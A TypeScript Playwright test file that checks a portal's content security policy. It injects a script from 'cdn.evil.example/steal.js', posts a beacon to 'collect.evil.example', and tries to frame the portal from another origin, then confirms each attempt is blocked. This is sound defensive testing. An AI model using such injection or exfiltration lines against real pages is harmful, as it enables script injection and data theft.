import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { browserSuite } from './flows'

type Watched = Window & { __inline?: unknown; __foreign?: unknown; __violations?: Array<{ directive: string; blocked: string }> }

/** Listens for the page's own reports of what its policy blocked. */
const listenForViolations = (page: Page) =>
  page.evaluate(() => {
    const w = window as Watched
    w.__violations = []
    document.addEventListener('securitypolicyviolation', (event) => w.__violations!.push({ directive: event.effectiveDirective, blocked: event.blockedURI }))
  })

const violations = (page: Page) => page.evaluate(() => (window as Watched).__violations ?? [])

describe('the content security policy (decision 060)', () => {
  const suite = browserSuite()

  it('blocks and reports an injected inline script and a foreign script, with the signed-in portal still working', async () => {
    const portal = await suite.signedIn('supplier')
    const { page } = portal
    // Were the foreign script fetched, it would run: only the policy stands in its way.
    await page.context().route('https://cdn.evil.example/**', (route) => route.fulfill({ contentType: 'text/javascript', body: 'window.__foreign = 1' }))
    await listenForViolations(page)

    await page.evaluate(() => {
      const inline = document.createElement('script')
      inline.textContent = 'window.__inline = 1'
      document.head.append(inline)
      const foreign = document.createElement('script')
      foreign.src = 'https://cdn.evil.example/steal.js'
      document.head.append(foreign)
    })
    await expect.poll(() => violations(page)).toEqual(
      expect.arrayContaining([
        { directive: 'script-src-elem', blocked: 'inline' },
        { directive: 'script-src-elem', blocked: 'https://cdn.evil.example/steal.js' },
      ]),
    )
    expect(await page.evaluate(() => [(window as Watched).__inline, (window as Watched).__foreign])).toEqual([undefined, undefined])

    // The portal goes on: a screen with data from the simulator loads after the attempt.
    await page.getByRole('navigation', { name: '侧边菜单' }).getByRole('button', { name: '采购信息', exact: true }).click()
    await page.getByRole('navigation', { name: '侧边菜单' }).getByText('采购公告', { exact: true }).click()
    await page.getByRole('table').getByRole('row').nth(1).waitFor()
    // The blocks above are the only ones: nothing of the portal's own was refused.
    expect((await violations(page)).filter((v) => !v.blocked.includes('evil.example') && v.blocked !== 'inline')).toEqual([])
    portal.errors.splice(0, portal.errors.length, ...portal.errors.filter((e) => !/Content Security Policy/.test(e.text)))
    expect(portal.errors).toEqual([])
  })

  it('lets the page connect to its own origin and the certificate helper only, once config.json is read', async () => {
    const { page } = await suite.open({ path: '/login' })
    await listenForViolations(page)
    const outcome = await page.evaluate(async () => {
      try {
        await fetch('https://collect.evil.example/beacon', { method: 'POST', body: 'x' })
        return 'sent'
      } catch {
        return 'refused'
      }
    })
    expect(outcome).toBe('refused')
    await expect.poll(() => violations(page)).toContainEqual({ directive: 'connect-src', blocked: 'https://collect.evil.example/beacon' })
  })

  it('cannot be framed by another site', async () => {
    const portal = await suite.open({ path: '/login' })
    const { page } = portal
    // Another origin on this machine, served for real: a page Playwright makes up counts as a public
    // site, and Chromium's private-network rule would refuse the frame whatever the portal sent.
    const framing = createServer((_req, res) =>
      res.writeHead(200, { 'Content-Type': 'text/html' }).end(`<title>framing</title><iframe title="portal" src="${portal.origin}/login"></iframe>`),
    )
    await new Promise<void>((listening) => framing.listen(0, '127.0.0.1', listening))
    try {
      await page.goto(`http://localhost:${(framing.address() as AddressInfo).port}/`)
      const child = await (await page.locator('iframe').elementHandle())!.contentFrame()
      // A refused frame shows the browser's error page, never the portal's sign-in.
      await expect.poll(() => child?.url()).toMatch(/^chrome-error:/)
      expect(await child?.locator('input').count().catch(() => 0)).toBe(0)
    } finally {
      framing.close()
    }
    portal.errors.splice(0)
  })
})
